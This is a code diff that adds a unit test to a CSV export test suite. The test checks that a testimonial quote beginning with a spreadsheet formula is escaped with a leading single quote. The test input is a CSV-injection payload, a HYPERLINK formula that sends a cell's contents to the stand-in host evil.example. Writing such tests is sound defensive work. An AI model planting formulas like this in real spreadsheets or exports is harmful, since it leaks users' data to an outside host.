@@ -223,6 +223,14 @@ describe('the CSV export', () => {
     });
   });
 
+  it('escapes a formula on the first of several lines (issue 9, hostile input)', () => {
+    const quote = '=HYPERLINK("https://evil.example/?"&A1,"Refund")\nThanks for the help!';
+    const csv = testimonialsCsv([testimonial({ quote })], scope);
+    expect(Papa.parse<Record<string, string>>(csv, { header: true }).data[0]!.quote).toBe(
+      `'${quote}`,
+    );
+  });
+
   it('writes a header even when empty, and keeps multi-line and odd text intact', () => {
     expect(Papa.parse(testimonialsCsv([], scope), { header: true }).meta.fields).toEqual([
       ...CSV_COLUMNS,
